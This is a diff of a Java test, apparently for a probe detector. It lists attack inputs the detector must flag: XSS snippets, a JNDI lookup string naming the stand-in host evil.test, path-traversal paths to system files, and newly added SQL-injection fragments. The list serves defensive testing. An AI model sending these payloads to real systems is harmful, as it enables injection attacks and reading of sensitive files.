@@ -15,6 +15,7 @@ class ProbeTests {
             "<img src=x onerror=alert(1)>",
             "<iframe src=javascript:alert(1)>", "javascript:alert(1)", "data:text/html,<b>",
             "${jndi:ldap://evil.test/a}",
+            "union/select", "UNION/ALL/SELECT",
             "../../etc/passwd", "..\\..\\windows\\win.ini"})
     void whatScannersSendIsSeen(String text) {
         assertThat(Probe.in(text)).isPresent();
